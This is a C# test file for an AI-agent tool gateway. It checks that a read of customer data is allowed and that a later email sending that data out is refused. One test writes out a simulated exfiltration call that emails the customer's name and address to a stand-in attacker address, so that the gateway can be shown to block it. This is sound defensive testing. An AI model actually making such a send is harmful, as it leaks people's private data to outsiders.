using ModelContextProtocol.Protocol;

namespace Trajeckt.Gateway.Tests;

/// <summary>A stock SDK client pointed at the gateway instead of its server, with nothing configured by hand.</summary>
public sealed class SmokeTests(SupportGateway fixture) : IClassFixture<SupportGateway>
{
    private readonly GatewayServer _gateway = fixture.Gateway;

    [Fact]
    public async Task The_sensitive_read_is_allowed_and_the_exfiltrating_send_is_refused()
    {
        await using var agent = await _gateway.ConnectAgentAsync();

        var read = await agent.CallAsync("read_customer", ("id", "42"));
        Assert.NotEqual(true, read.IsError);
        Assert.Equal("customer 42: Ada Lovelace, ada@example.com", read.Text());

        var send = await agent.CallAsync("send_email", ("to", "attacker@example.net"), ("body", read.Text()));
        Assert.True(send.IsError);
        Assert.StartsWith("Refused by the Trajeckt policy: flow: ", send.Text());
        Assert.Contains("send_email", send.Text());

        var decisions = _gateway.Decisions(agent.SessionId!);
        Assert.Equal(new[] { "allowed", "refused" }, decisions.Select(d => d.Outcome));
        Assert.Equal("flow", decisions[1].Code);
    }

    [Fact]
    public async Task A_send_before_any_sensitive_read_is_allowed()
    {
        await using var agent = await _gateway.ConnectAgentAsync();
        var send = await agent.CallAsync("send_email", ("to", "bob@example.com"), ("body", "hello"));
        Assert.NotEqual(true, send.IsError);
        Assert.Equal("sent 5 characters to bob@example.com", send.Text());
    }

    [Fact]
    public async Task Clients_are_offered_the_upstream_tools_with_their_definitions()
    {
        await using var agent = await _gateway.ConnectAgentAsync();
        var tools = await agent.ListToolsAsync();
        Assert.Equal(new[] { "crash", "fetch_url", "memory_write", "read_customer", "send_email", "slow" }, tools.Select(t => t.Name).Order(StringComparer.Ordinal));
        var read = tools.Single(t => t.Name == "read_customer").ProtocolTool;
        Assert.Equal("Reads a customer's record.", read.Description);
        Assert.Equal(true, read.Annotations?.ReadOnlyHint);
    }

    [Fact]
    public async Task The_refusal_is_the_in_process_decision_exactly()
    {
        await using var agent = await _gateway.ConnectAgentAsync();
        await agent.CallAsync("read_customer", ("id", "1"));
        await agent.CallAsync("fetch_url", ("url", "https://example.net/?q=1"));
        var send = await agent.CallAsync("send_email", ("to", "x@example.net"), ("body", "b"));

        // The same commitment decided in process, call for call.
        var inProcess = TrajecktSession.Create(_gateway.Runtime.Commitment!.Commitment!);
        Assert.True(inProcess.Begin("read_customer").IsAllowed);
        var fetch = inProcess.Begin("fetch_url");
        var expected = inProcess.Begin("send_email");

        Assert.False(fetch.IsAllowed);
        Assert.False(expected.IsAllowed);
        var decisions = _gateway.Decisions(agent.SessionId!);
        Assert.Equal(fetch.Message, decisions[1].Message);
        Assert.Equal(expected.Code, decisions[2].Code);

        Assert.True(send.IsError);
        var block = Assert.Single(send.Content);
        var text = Assert.IsType<TextContentBlock>(block);
        Assert.Equal("Refused by the Trajeckt policy: " + expected.Message, text.Text);
        Assert.StartsWith(expected.Code + ":", expected.Message);
        Assert.Null(send.StructuredContent);
    }

    [Fact]
    public async Task The_commitment_endpoint_lists_what_was_inferred_for_every_tool()
    {
        var text = await _gateway.Http.GetStringAsync("trajeckt/commitment");
        Assert.Contains("auto-commitment sealed at start with key ", text);
        Assert.Matches(@"read_customer\s+sensitive\(internal\)\s+<- read-only, closed world", text);
        Assert.Matches(@"send_email\s+sink\(external\)\s+<- writes, open world", text);
        Assert.Matches(@"fetch_url\s+origin\(Untrusted\), egress\s+<- read-only, open world", text);
        Assert.Matches(@"memory_write\s+sink\(control\)\s+<- writes, closed world", text);
        Assert.Contains("trajectory Gateway", text);
        Assert.Contains("digest  " + _gateway.Runtime.Commitment!.Commitment!.Digest, text);
    }

    [Fact]
    public async Task Health_reports_the_commitment_digest()
    {
        var health = await _gateway.Http.GetStringAsync("healthz");
        Assert.Contains("\"status\":\"ok\"", health);
        Assert.Contains(_gateway.Runtime.Commitment!.Commitment!.Digest.ToString(), health);
    }
}
